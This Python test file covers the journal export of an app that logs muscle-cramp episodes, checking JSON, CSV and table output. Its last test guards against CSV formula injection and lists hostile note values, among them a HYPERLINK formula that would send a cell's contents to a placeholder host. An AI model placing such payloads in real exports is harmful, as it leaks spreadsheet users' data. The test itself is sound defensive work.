"""Export for the doctor or coach: JSON read back equals the journal, CSV one row per episode,
and the terminal table newest first."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import shutil
import subprocess
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from xml.etree import ElementTree

import pytest

from cramp_coach.journal.export import CSV_COLUMNS, to_csv, to_json, to_text
from cramp_coach.journal.store import Episode, Journal, StepEntry

T0 = datetime(2026, 11, 25, 12, 5, 1, 250000, tzinfo=UTC)


def at(seconds: float) -> datetime:
    return T0 + timedelta(seconds=seconds)


@pytest.fixture
def journal(tmp_path: Path) -> Iterator[Journal]:
    """A journal with a guided episode, a manual one, and one cut off mid-routine."""
    journal = Journal.open(tmp_path / "journal.db")
    guided = journal.start_episode(at(0), leg="right")
    for seconds, step in ((0, "stop"), (8, "position"), (15, "hold"), (45, "check")):
        journal.add_step(guided, step, at(seconds))
    journal.finish_episode(guided, at(150), reps=3, outcome="prolonged")
    journal.set_causes(guided, ["spread", "hot_weather"])
    journal.add_manual(
        at(-3 * 86400), at(-3 * 86400 + 40), 1, "eased", leg="left",
        note='after the "long run",\nwith a comma',
    )  # fmt: skip
    cut = journal.start_episode(at(-86400))
    journal.add_step(cut, "stop", at(-86400))
    yield journal
    journal.close()


def read_back(text: str) -> list[Episode]:
    """The episodes in a JSON export, read as a doctor's tool would (the app reads none back)."""

    def moment(value: str) -> datetime:
        return datetime.fromisoformat(value).astimezone(UTC)

    return [
        Episode(
            id=item["id"],
            started_at=moment(item["started_at"]),
            ended_at=None if item["ended_at"] is None else moment(item["ended_at"]),
            leg=item["leg"],
            reps=item["reps"],
            outcome=item["outcome"],
            note=item["note"],
            manual=item["manual"],
            steps=tuple(StepEntry(step["step"], moment(step["at"])) for step in item["steps"]),
            causes=frozenset(item["causes"]),
        )
        for item in json.loads(text)["episodes"]
    ]


def test_json_read_back_equals_the_journal(journal: Journal) -> None:
    episodes = journal.episodes()
    assert len(episodes) == 3
    assert read_back(to_json(episodes)) == episodes


def test_json_has_the_documented_shape(journal: Journal) -> None:
    document = json.loads(to_json(journal.episodes()))
    assert document["format"] == "cramp-coach-journal" and document["version"] == 2
    assert document["sessions"] == []  # version 2: the prevention log (none here)
    newest = document["episodes"][0]
    assert set(newest) == {
        "id", "started_at", "ended_at", "leg", "reps", "outcome", "note", "manual", "causes",
        "steps",
    }  # fmt: skip
    assert newest["started_at"] == "2026-11-25T12:05:01.250000+00:00"
    assert newest["causes"] == ["hot_weather", "spread"]
    assert newest["steps"][1] == {"step": "position", "at": "2026-11-25T12:05:09.250000+00:00"}
    assert document["episodes"][1]["ended_at"] is None  # the one cut off


def test_csv_has_a_header_and_one_row_per_episode(journal: Journal) -> None:
    episodes = journal.episodes()
    rows = list(csv.reader(io.StringIO(to_csv(episodes))))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == 1 + len(episodes)
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    newest, cut, manual = records
    assert newest["steps"] == (
        "stop@2026-11-25T12:05:01.250000+00:00;position@2026-11-25T12:05:09.250000+00:00;"
        "hold@2026-11-25T12:05:16.250000+00:00;check@2026-11-25T12:05:46.250000+00:00"
    )
    assert (newest["outcome"], newest["reps"], newest["leg"]) == ("prolonged", "3", "right")
    assert (newest["duration_seconds"], newest["causes"]) == ("150", "hot_weather;spread")
    assert (cut["outcome"], cut["ended_at"], cut["duration_seconds"]) == ("unfinished", "", "")
    assert manual["note"] == 'after the "long run",\nwith a comma'  # quoted, not split
    assert manual["manual"] == "yes" and newest["manual"] == "no"


def test_an_empty_journal_exports_cleanly() -> None:
    assert read_back(to_json([])) == []
    assert to_csv([]).splitlines() == [",".join(CSV_COLUMNS)]
    assert "no episodes" in to_text([])


def test_the_terminal_table_is_newest_first_and_readable(journal: Journal) -> None:
    episodes = journal.episodes()
    text = to_text(list(reversed(episodes)), UTC)
    lines = text.splitlines()
    assert lines[0].split() == ["#", "Started", "Length", "Leg", "Holds", "Outcome", "Why", "Note"]
    assert set(lines[1]) <= {"-", " "}
    body = lines[2:5]
    assert body[0].split()[:7] == [
        str(episodes[0].id), "2026-11-25", "12:05", "2", "min", "30", "s",
    ]  # fmt: skip
    assert "prolonged" in body[0]
    # The "why" answers in the window's words, not the stored ids ("spread", "hot_weather").
    assert "Dehydration or a mineral and electrolyte imbalance, Hot weather" in body[0]
    assert "spread" not in body[0] and "hot_weather" not in body[0]
    assert "unfinished" in body[1]
    assert "2026-11-22 12:05 *" in body[2] and 'after the "long run", with a comma' in body[2]
    assert lines[-1] == "* added by hand"
    columns = lines[0].index("Outcome")
    assert all(line[columns:].split()[0] in {"prolonged", "unfinished", "eased"} for line in body)


def test_the_terminal_table_says_muscle_fatigue_as_the_window_does(journal: Journal) -> None:
    episode = journal.add_manual(datetime(2026, 11, 1, 8, 0, tzinfo=UTC), None, 1, "eased")
    journal.set_causes(episode, ["stayed"])
    row = next(
        line for line in to_text(journal.episodes(), UTC).splitlines() if "2026-11-01" in line
    )
    assert "Muscle fatigue" in row and "stayed" not in row


# -- CSV injection (issue 18, 4): the export opened by a real spreadsheet engine ----------------

HOSTILE_NOTES = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted by the user
)


def test_no_note_in_a_csv_export_becomes_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
    """Gnumeric (ssconvert) reads the export as LibreOffice or Excel would: every cell must be a
    value (text or number), none a formula (a live HYPERLINK was seen), and each note still
    reads as typed."""
    if shutil.which("ssconvert") is None:
        pytest.skip("Gnumeric's ssconvert is not installed (apt-get install gnumeric)")
    journal = Journal.open(tmp_path / "journal.db")
    for number, note in enumerate(HOSTILE_NOTES):
        journal.add_manual(at(number * 3600), at(number * 3600 + 40), 1, "eased", note=note)
    exported = tmp_path / "journal.csv"
    exported.write_text(to_csv(journal.episodes()), encoding="utf-8")
    journal.close()
    sheet = tmp_path / "journal.gnumeric"
    subprocess.run(
        ["ssconvert", str(exported), str(sheet)],
        check=True,
        capture_output=True,
        timeout=60,
        env=dict(os.environ, HOME=str(tmp_path)),
    )
    cells = ElementTree.fromstring(gzip.decompress(sheet.read_bytes())).iter(
        "{http://www.gnumeric.org/v10.dtd}Cell"
    )
    note_column = str(CSV_COLUMNS.index("note"))
    notes, formulas = [], []
    for cell in cells:
        if "ValueType" not in cell.attrib:  # Gnumeric writes an expression without one
            formulas.append(cell.text)
        elif cell.get("Col") == note_column and cell.get("Row") != "0":
            notes.append(cell.text)
    assert formulas == []
    shown = sorted(note.lstrip("'") for note in notes)  # Gnumeric keeps a second quote
    assert shown == sorted(note.lstrip("'").replace("\r", "\n") for note in HOSTILE_NOTES)
